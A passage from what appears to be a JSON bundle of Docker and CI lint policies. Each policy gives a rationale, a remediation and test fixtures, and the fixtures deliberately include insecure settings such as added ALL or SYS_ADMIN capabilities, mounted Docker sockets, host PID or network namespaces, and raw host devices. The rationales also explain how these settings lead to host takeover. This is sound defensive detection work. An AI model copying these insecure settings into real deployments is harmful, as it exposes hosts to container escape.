services.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"},{"framework":"url","url":"https://docs.docker.com/engine/security/#linux-kernel-capabilities"}],"params":{"dangerousCapabilities":["ALL","SYS_ADMIN","NET_ADMIN","SYS_MODULE","SYS_PTRACE","SYS_RAWIO","SYS_BOOT","SYS_TIME","DAC_READ_SEARCH","BPF","PERFMON","MAC_ADMIN","MAC_OVERRIDE","SYSLOG","LINUX_IMMUTABLE"]},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    cap_add:\\n      - NET_BIND_SERVICE\\n      - CAP_sys_admin\\n      - net_admin\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":22},{"line":7,"column":9}]},{"file":"compose.yaml","content":"x-caps: &caps\\n  cap_add: [ALL]\\nservices:\\n  tool:\\n    <<: *caps\\n    image: alpine:3.20\\n","expect":[{"line":2,"column":13}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: golang:1.23\\n      options: --cap-add=SYS_PTRACE --cap-add CAP_NET_RAW\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --cap-add SYS_ADMIN --device /dev/fuse\\n    steps:\\n      - run: go test ./...\\n","expect":[{"line":7,"column":7},{"line":11,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: |\\n          docker run --rm --cap-add ALL alpine:3.20 true\\n          docker run --rm --cap-drop ALL --cap-add NET_BIND_SERVICE nginx:1.27\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":57}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        options: --cap-drop ALL --cap-add NET_BIND_SERVICE --cap-add ${{ matrix.cap }}\\n    steps:\\n      - run: docker run --rm --cap-add CHOWN alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-dangerous-capability.yaml"},{"id":"container-default-bridge-network","pack":"docker","title":"Container uses Docker\'s default bridge network","severity":"low","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"bridge"}}}},"message":"{{name}} is attached to the default `bridge` network (docker0), where every container can reach every other container started the same way, and names do not resolve. Remove `network_mode: bridge` so Compose puts it on the project\'s own network, or attach it to a user-defined network.","rationale":"The default bridge network is shared by every container started without a network: they can all talk to each other on any port, with no isolation between unrelated applications, and the network offers no DNS between containers (which encourages the deprecated `--link`). User-defined networks isolate groups of containers and resolve names. The CIS Docker Benchmark (5.30) asks that docker0 not be used; the OWASP cheat sheet (rule 5) asks to isolate containers with networks.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n```\\n\\nFor `docker run`, create a network once (`docker network create app`) and pass `--network app`.","references":[{"framework":"cis-docker","id":"1.6.0:5.30"},{"framework":"owasp-docker","id":"RULE #5"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/bridge/#differences-between-user-defined-bridges-and-the-default-bridge"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    network_mode: bridge\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":25}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --network bridge\\n    steps:\\n      - run: |\\n          docker run -d --net=bridge nginx:1.27\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker network create e2e\\n          docker run -d --network e2e nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-default-bridge-network.yaml"},{"id":"container-docker-socket","pack":"docker","title":"Docker socket mounted into a container","severity":"critical","subject":"container","schema":{"properties":{"use_api_socket":{"not":{"const":true}},"volumes":{"items":{"not":{"required":["source"],"properties":{"source":{"pattern":{"$param":"socketPaths"}}}}}}}},"message":"{{name}} mounts the Docker socket: any process in it can start a privileged container and so owns the host, and `:ro` does not prevent that. Remove the mount; if the service must talk to Docker, put an authorizing proxy in front of a TLS-protected daemon.","rationale":"The Docker daemon runs as root and its socket is its whole API. A container that can reach the socket can create a new container that is privileged and mounts the host\'s root filesystem, which is root on the host. Mounting the socket read-only changes nothing: API calls are writes to the socket whatever the mount mode. Compose\'s `use_api_socket: true` grants the same access.","remediation":"Remove the socket mount. If the service genuinely manages containers (a CI runner, a reverse\\nproxy that reads labels), run it against a socket proxy that allows only the API calls it needs,\\nor a rootless daemon, and never in a service that handles untrusted input.\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: traefik:v3.1\\n    # volumes:\\n    #   - /var/run/docker.sock:/var/run/docker.sock   # removed\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.32"},{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/#docker-daemon-attack-surface"}],"params":{"socketPaths":"^(/var)?/run/docker\\\\.sock/?$"},"tests":[{"file":"compose.yaml","content":"services:\\n  traefik:\\n    image: traefik:v3.1\\n    volumes:\\n      - ./traefik.yml:/etc/traefik/traefik.yml:ro\\n      - /var/run/docker.sock:/var/run/docker.sock:ro\\n","expect":[{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: portainer/agent:2.21\\n    volumes:\\n      - type: bind\\n        source: /run/docker.sock\\n        target: /var/run/docker.sock\\n","expect":[{"line":5,"column":9}]},{"file":"compose.yaml","content":"services:\\n  builder:\\n    image: docker:27-cli\\n    use_api_socket: true\\n","expect":[{"line":4,"column":5}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./html:/usr/share/nginx/html:ro\\n      - cache:/var/cache/nginx\\nvolumes:\\n  cache: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: docker:27-cli\\n      options: -v /var/run/docker.sock:/var/run/docker.sock\\n    steps:\\n      - run: docker ps\\n","expect":[{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n    steps:\\n      - run: npm ci\\n","expect":[]}],"source":"policies/docker/container-docker-socket.yaml"},{"id":"container-host-device","pack":"docker","title":"Host device exposed to a container","severity":"medium","subject":"container","schema":{"properties":{"devices":{"items":false}}},"message":"{{name}} is given the host device `{{value}}`, so processes in it talk to that hardware or kernel interface directly, outside the container\'s isolation. Remove the device unless the service truly drives it, and then pass only that one device with the narrowest permissions (`:r` or `:rw`, not `:rwm`).","rationale":"A device node is a direct line into a kernel driver. Block devices expose the host\'s disks (mount `/dev/sda1` and read or change the host\'s files), `/dev/mem` and `/dev/kmsg` expose kernel memory and logs, and even a FUSE or GPU device widens the kernel attack surface that a compromised process can reach. The CIS Docker Benchmark (5.18) asks that host devices not be exposed to containers directly, and that when one must be, its permissions be limited.","remediation":"Remove the device. If the workload genuinely needs one (a GPU, a serial adapter), pass exactly\\nthat device, read-only where possible, and keep the service on a dedicated host:\\n\\n```yaml\\nservices:\\n  reader:\\n    image: ghcr.io/example/serial-reader:1.0.0\\n    devices:\\n      - \\"/dev/ttyUSB0:/dev/ttyUSB0:r\\"   # this one device, no mknod\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.18"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#device"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: ghcr.io/example/backup:3.1.0\\n    devices:\\n      - /dev/sda:/dev/xvda:rwm\\n      - source: /dev/fuse\\n        target: /dev/fuse\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":31},{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    devices: []\\n    volumes:\\n      - ./dev:/srv/dev\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --device /dev/fuse\\n    steps:\\n      - run: |\\n          docker run --rm --device=/dev/kvm ghcr.io/example/emulator:2.0.0 boot\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2 --device ${{ matrix.device }}\\n    steps:\\n      - run: docker run --rm alpine:3.20 ls /dev\\n","expect":[]}],"source":"policies/docker/container-host-device.yaml"},{"id":"container-host-namespace","pack":"docker","title":"Container shares the host\'s PID, IPC, UTS or user namespace","severity":"high","subject":"container","schema":{"properties":{"pid":{"not":{"const":"host"}},"ipc":{"not":{"const":"host"}},"uts":{"not":{"const":"host"}},"userns_mode":{"not":{"const":"host"}}}},"message":"{{name}} sets `{{key}}: host`, so it shares that namespace with the host and can see or affect what runs outside the container. Remove the setting so the container keeps its own namespace.","rationale":"Namespaces are what make a container a container. Sharing the host\'s PID namespace lets its processes list, signal and (with `SYS_PTRACE`) inspect every process on the host, including their environment and secrets; sharing IPC exposes the host\'s shared memory segments and semaphores; sharing UTS lets it change the host\'s hostname; and `userns_mode: host` switches off user-namespace remapping, so root in the container is root on the host again. The CIS Docker Benchmark asks that none of these namespaces be shared with the host.","remediation":"Remove the setting so that Docker gives the container its own namespace. To share a namespace\\nbetween cooperating containers, share it with that container rather than with the host:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  debugger:\\n    image: ghcr.io/example/debug-tools:2.0.1\\n    pid: \\"service:app\\"   # not \\"host\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--pid host`, `--ipc host`, `--uts host`\\nand `--userns host`.","references":[{"framework":"cis-docker","id":"1.6.0:5.16"},{"framework":"cis-docker","id":"1.6.0:5.17"},{"framework":"cis-docker","id":"1.6.0:5.21"},{"framework":"cis-docker","id":"1.6.0:5.31"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pid"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: datadog/agent:7.57.0\\n    pid: host\\n    ipc: host\\n    uts: host\\n    userns_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":14},{"line":5,"column":5},{"line":6,"column":5},{"line":7,"column":5,"endLine":7,"endColumn":22}]},{"file":"compose.yaml","content":"x-debug: &debug\\n  pid: \\"host\\"\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  tools:\\n    <<: *debug\\n    image: ghcr.io/example/debug-tools:2.0.1\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ipc: shareable\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    ipc: \\"service:app\\"\\n    pid: \\"service:app\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ubuntu:24.04\\n      options: --pid=host --ipc host\\n    steps:\\n      - run: ps aux\\n","expect":[{"line":7,"column":7},{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          set -eu\\n          docker run --rm \\\\\\n            --userns=host \\\\\\n            ubuntu:24.04 id\\n","expect":[{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --pid private --hostname app\\n    steps:\\n      - run: docker run --rm --pid container:app ubuntu:24.04 ps\\n","expect":[]}],"source":"policies/docker/container-host-namespace.yaml"},{"id":"container-host-network","pack":"docker","title":"Container uses the host\'s network namespace","severity":"high","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"host"}}}},"message":"{{name}} uses the host\'s network stack instead of its own: it can reach every service bound to the host\'s localhost and every host interface, and anything it listens on is exposed on the host directly. Remove the host network mode and publish only the ports it serves, e.g. `ports: [\\"127.0.0.1:8080:8080\\"]`.","rationale":"With the host network mode the container gets no network namespace of its own. It sees and can use all of the host\'s interfaces, can connect to daemons that listen only on the host\'s loopback address (metadata endpoints, databases, the Docker API on TCP), can sniff traffic with `NET_RAW`, and bypasses the isolation and firewall rules Docker sets up for bridge networks. The CIS Docker Benchmark asks that the host\'s network namespace never be shared with a container.","remediation":"Drop the host network mode, let the container use its own (user-defined bridge) network, and\\npublish only the ports that must be reachable, bound to a specific address:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    # network_mode: host   # removed\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--network host` / `--net=host` and use\\n`-p 127.0.0.1:8080:8080` instead.","references":[{"framework":"cis-docker","id":"1.6.0:5.10"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/host/"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  metrics:\\n    image: prom/node-exporter:v1.8.2\\n    network_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":23}]},{"file":"compose.yaml","content":"x-hostnet: &hostnet\\n  network_mode: \\"host\\"\\nservices:\\n  sniffer:\\n    <<: *hostnet\\n    image: nicolaka/netshoot:v0.13\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    networks: [front]\\n  sidecar:\\n    image: envoyproxy/envoy:v1.31.0\\n    network_mode: \\"service:web\\"\\nnetworks:\\n  front: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --net=host --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - name: Start the app\\n        run: |\\n          docker network create e2e\\n          docker run -d --name app --network host ghcr.io/example/app:1.4.2\\n","expect":[{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --network ${{ matrix.network }}\\n    steps:\\n      - run: docker run -d --network e2e -p 127.0.0.1:8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-host-network.yaml"},{"id":"container-mount-propagation-shared","pack":"docker","title":"Mount uses shared propagation","severity":"medium","subject":"container","schema":{"properties":{"volumes":{"items":{"properties":{"propagation":{"not":{"enum":{"$param":"sharedModes"}}}}}}}},"message":"{{name}} has a mount with `{{value}}` propagation, so mounts made inside the container appear on the host (and in other containers sharing it) and the other way round. Remove the propagation option (the default is `rprivate`) or use `rslave` if the container only needs to see host mounts.","rationale":"With shared propagation a mount made inside the container is propagated to the host\'s mount namespace and to every other container that shares the mount, which lets a container change what the host sees under that path. The CIS Docker Benchmark (5.20) asks that mount propagation not be set to shared. `rslave` gives the container the host\'s new mounts without sending its own back.","remediation":"```yaml\\nservices:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - type: bind\\n        source: /mnt/data\\n        target: /data\\n        bind:\\n          propagation: rslave   # not shared / rshared\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.20"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/#configure-bind-propagation"}],"params":{"sharedModes":["shared","rshared"]},"tests":[{"file":"compose.yaml","content":"services:\\n  csi:\\n    image: ghcr.io/example/csi-driver:1.2.0\\n    volumes:\\n      - /mnt/data:/data:rshared\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: shared\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":32},{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - /mnt/data:/data:ro,rslave\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: rprivate\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      options: --mount type=bind,source=/mnt,target=/mnt,bind-propagation=rshared\\n    steps:\\n      - run: |\\n          docker run --rm -v /srv:/srv:shared alpine:3.20 true\\n","expect":[{"line":7,"column":7},{"line":10,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      volumes:\\n        - /mnt:/mnt:rslave\\n    steps:\\n      - run: docker run --rm -v /srv:/srv:ro alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-mount-propagation-shared.yaml"},{"id":"container-no-cpu-limit","pack":"docker","title":"Compose service has no CPU limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["cpus"]},"message":"{{name}} has no CPU limit, so a busy loop or a flood of requests in it can starve every other container on the host. Set `cpus:` (or `deploy.resources.limits.cpus`), e.g. `cpus: 1.0`.","rationale":"By default every container competes for all of the host\'s CPUs with equal weight. A service that is attacked or stuck in a loop slows everything else down, including health checks and the Docker daemon. A limit keeps one service\'s problem its own. The CIS Docker Benchmark (5.12) and the OWASP cheat sheet (rule 7) ask that CPU use be limited or prioritized. Informational by default: on a host that runs one service, a limit matters less.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.0        # or deploy.resources.limits.cpus: \\"1.0\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.12"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/#cpu"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    mem_limit: 512m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 0.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          cpus: \\"2\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-cpu-limit.yaml"},{"id":"container-no-healthcheck","pack":"docker","title":"Compose service has no health check","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"{{name}} has no working health check, so Docker reports it as running while it hangs or serves errors, and `depends_on: condition: service_healthy` cannot wait for it. Add a `healthcheck:` (or a HEALTHCHECK in its Dockerfile) that probes the service, e.g. `test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]`.","rationale":"A container whose main process is alive is not necessarily a service that works. A health check lets Docker, Compose and orchestrators notice a deadlocked or degraded container, restart it or keep traffic and dependants away from it, and it turns silent failures (including some denial of service) into visible ones. The CIS Docker Benchmark asks for a HEALTHCHECK in images (4.6) and for container health to be checked at run time (5.27). Informational by default: many services are watched from outside instead.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    healthcheck:\\n      test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]\\n      interval: 30s\\n      timeout: 5s\\n      retries: 3\\n```\\n\\nImages without a shell or wget can ship a small probe binary, or define the HEALTHCHECK in the\\nDockerfile.","references":[{"framework":"cis-docker","id":"1.6.0:5.27"},{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#healthcheck"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      disable: true\\n  cache:\\n    image: redis:7.4\\n    healthcheck:\\n      test: [\\"NONE\\"]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":7,"column":7,"endLine":7,"endColumn":20},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      test: [\\"CMD-SHELL\\", \\"pg_isready -U postgres\\"]\\n      interval: 10s\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --no-healthcheck\\n    steps:\\n      - run: docker run -d nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-no-healthcheck.yaml"},{"id":"container-no-memory-limit","pack":"docker","title":"Compose service has no memory limit","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["mem_limit"]},"message":"{{name}} has no memory limit, so a leak or a crafted request can exhaust the host\'s memory and take every other container down with it. Set `mem_limit:` (or `deploy.resources.limits.memory`) to what the service needs, e.g. `mem_limit: 512m`.","rationale":"By default a container may use all of the host\'s memory. One misbehaving or attacked service then pushes the host into swapping or wakes the kernel\'s OOM killer, which may kill a different, more important process. A limit confines the damage to the service that caused it and makes capacity planning possible. The CIS Docker Benchmark (5.11) and the OWASP cheat sheet (rule 7) ask that every container\'s memory be limited.","remediation":"Set a limit with headroom above the service\'s normal use:\\n\\n```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n          cpus: \\"1.0\\"\\n          pids: 200\\n```\\n\\n`mem_limit: 512m`, `cpus: 1.0` and `pids_limit: 200` at the service level are equivalent.","references":[{"framework":"cis-docker","id":"1.6.0:5.11"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    mem_limit: 256m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-memory-limit.yaml"},{"id":"container-no-new-privileges","pack":"docker","title":"Container may gain privileges through setuid binaries (no-new-privileges not set)","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"security_opt":{"not":{"items":{"not":{"pattern":{"$param":"enabled"}}}}}}},"message":"{{name}} does not set `no-new-privileges`, so a setuid or setgid program inside it can still raise a process\'s privileges. Add `security_opt: [\\"no-new-privileges:true\\"]`.","rationale":"The kernel\'s `no_new_privs` bit, which Docker sets with `no-new-privileges`, makes `execve` unable to grant more privileges than the caller had: setuid and setgid binaries and file capabilities stop working as an escalation path from an application user to root inside the container. It costs nothing for almost every service. The CIS Docker Benchmark and the OWASP cheat sheet recommend it for every container; this rule asks it of Compose services, the long-running ones.","remediation":"Add the option to the service (or to a shared `x-` block merged into every service):\\n\\n```yaml\\nx-hardening: &hardening\\n  security_opt:\\n    - no-new-privileges:true\\nservices:\\n  app:\\n    <<: *hardening\\n    image: ghcr.io/example/app:1.4.2\\n```\\n\\nThe Docker daemon can also apply it to every container with `\\"no-new-privileges\\": true` in\\n`daemon.json`, but the Compose file is where a reviewer can see it.","references":[{"framework":"cis-docker","id":"1.6.0:5.26"},{"framework":"owasp-docker","id":"RULE #4"}],"params":{"enabled":"^no-new-privileges=(1|t|T|true|TRUE|True)$"},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt:\\n      - apparmor=docker-default\\n      - no-new-privileges:false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":17}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  security_opt: [no-new-privileges:true]\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    security_opt:\\n      - no-new-privileges\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt: [\\"no-new-privileges=true\\", \\"seccomp=./seccomp.json\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --health-cmd pg_isready\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-new-privileges.yaml"},{"id":"container-no-pids-limit","pack":"docker","title":"Compose service has no process (PIDs) limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["pids_limit"],"properties":{"pids_limit":{"type":"integer","minimum":1}}},"message":"{{name}} has no limit on the number of processes, so a fork bomb or a runaway worker pool in it can exhaust the host\'s process table. Set `pids_limit:` (or `deploy.resources.limits.pids`), e.g. `pids_limit: 200`.","rationale":"Process IDs are a host-wide resource. Without a limit, one container can create processes until the kernel refuses to start any more anywhere on the host, including the daemon\'s own. The CIS Docker Benchmark (5.29) asks that the PIDs cgroup limit be used. Informational by default.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.29"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pids_limit"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    pids_limit: -1\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          pids: 100\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-pids-limit.yaml"},{"id":"container-port-all-interfaces","pack":"docker","title":"Published port listens on every host interface","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"required":["host_ip"],"properties":{"host_ip":{"not":{"enum":{"$param":"anyAddress"}}}}}}}},"message":"{{name}} publishes a port on every interface of the host, so it is reachable from the network, and Docker\'s own firewall rules let it past host firewalls such as ufw. Bind it to the address that should reach it, e.g. `\\"127.0.0.1:8080:80\\"`.","rationale":"A published port without a host address is bound to `0.0.0.0` and `::`. Docker inserts its NAT rules ahead of the host firewall\'s own, so a database or admin interface meant for local use becomes reachable from the whole network, and from the internet on a server with a public address, even when `ufw` or `firewalld` says the port is closed. The CIS Docker Benchmark asks that container ports be bound to a specific host interface; the OWASP cheat sheet warns about the firewall bypass.","remediation":"Bind the port to the loopback address (or to the one interface that should serve it), and put a\\nreverse proxy in front of services that must be public:\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"127.0.0.1:5432:5432\\"\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - target: 8080\\n        published: \\"8080\\"\\n        host_ip: 127.0.0.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.14"},{"framework":"owasp-docker","id":"RULE 